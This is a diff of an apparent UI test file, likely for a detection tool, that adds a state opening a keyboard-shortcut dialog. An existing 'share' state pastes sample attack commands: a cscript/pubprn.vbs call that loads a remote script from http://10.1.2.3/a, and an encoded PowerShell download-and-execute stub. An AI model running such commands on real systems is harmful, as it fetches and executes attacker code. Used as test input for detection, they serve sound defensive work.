@@ -124,6 +124,14 @@ detection:
 export const states = [
   { name: 'start', reach: async () => {} },
   {
+    name: 'keys',
+    reach: async (page) => {
+      await page.getByRole('link', { name: 'Guide', exact: true }).focus();
+      await page.keyboard.press('?');
+      await page.getByRole('dialog', { name: 'Keyboard' }).waitFor();
+    },
+  },
+  {
     name: 'share',
     reach: async (page) => {
       await paste(page, 'cscript C:\\Users\\mjones\\pubprn.vbs \\\\FILESRV01\\x script:http://10.1.2.3/a\npowershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA');
